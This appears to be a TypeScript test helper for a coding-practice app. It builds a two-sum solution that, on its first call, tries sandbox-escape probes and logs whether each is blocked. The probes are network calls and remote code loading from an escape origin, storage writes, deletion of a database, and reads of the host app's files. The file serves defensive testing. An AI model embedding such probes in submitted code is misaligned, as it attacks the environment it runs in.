/**
 * Solution code (for two-sum) that tries every way out of the sandbox once, on its first
 * call, and prints one line per attempt: `probe <name>: blocked`, or `ESCAPED` when the
 * attempt worked. It then returns a correct answer, so a run reaches a verdict.
 */
export const PROBE_NAMES = [
  'fetch',
  'xhr',
  'websocket',
  'eventsource',
  'import',
  'importScripts',
  'worker',
  'indexedDB',
  'deleteHistory',
  'caches',
  'opfs',
  'localStorage',
  'cookie',
  'appAsset',
  'appChunk',
] as const;

export function escapeProbeCode(escapeOrigin: string, appOrigin: string, chunk: string): string {
  return `const ESCAPE = ${JSON.stringify(escapeOrigin)};
const APP = ${JSON.stringify(appOrigin)};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const opened = (target) => new Promise((resolve) => {
  target.onopen = () => resolve('ESCAPED');
  target.onmessage = () => resolve('ESCAPED');
  target.onerror = () => resolve('blocked');
  setTimeout(() => resolve('blocked'), 1000);
});
const request = (r) => new Promise((resolve, reject) => {
  r.onsuccess = () => resolve(r.result);
  r.onerror = () => reject(r.error);
});
const probes = {
  fetch: async () => { await fetch(ESCAPE + '/fetch'); },
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', ESCAPE + '/xhr', false); x.send(); },
  websocket: () => opened(new WebSocket(ESCAPE.replace('http', 'ws') + '/socket')),
  eventsource: () => opened(new EventSource(ESCAPE + '/events')),
  import: async () => { await import(ESCAPE + '/module.js'); },
  importScripts: () => { importScripts(ESCAPE + '/script.js'); },
  worker: async () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + ESCAPE + "/nested')"]))); await wait(300); },
  indexedDB: async () => { (await request(indexedDB.open('mockround-records'))).close(); },
  deleteHistory: async () => { await request(indexedDB.deleteDatabase('mockround-e2e-marker')); },
  caches: async () => { await (await caches.open('escape')).put('/x', new Response('x')); },
  opfs: async () => { await navigator.storage.getDirectory(); },
  localStorage: () => { localStorage.setItem('escaped', '1'); },
  cookie: async () => { if (typeof cookieStore !== 'undefined') { await cookieStore.set('escaped', '1'); return; } document.cookie = 'escaped=1'; },
  appAsset: async () => { const r = await fetch(APP + '/index.html'); await r.text(); },
  appChunk: async () => { const r = await fetch(APP + ${JSON.stringify(chunk)}); await r.text(); },
};
let probed = false;
async function twoSum(nums, target) {
  if (!probed) {
    probed = true;
    new BroadcastChannel('mockround-e2e').postMessage('escaped');
    const attempt = async (probe) => { try { return (await probe()) ?? 'ESCAPED'; } catch { return 'blocked'; } };
    const names = Object.keys(probes);
    const outcomes = await Promise.all(names.map((name) => attempt(probes[name])));
    names.forEach((name, i) => console.log('probe ' + name + ': ' + outcomes[i]));
  }
  const seen = new Map();
  for (let i = 0; i < nums.length; i += 1) {
    if (seen.has(target - nums[i])) return [seen.get(target - nums[i]), i];
    seen.set(nums[i], i);
  }
  return [];
}
`;
}
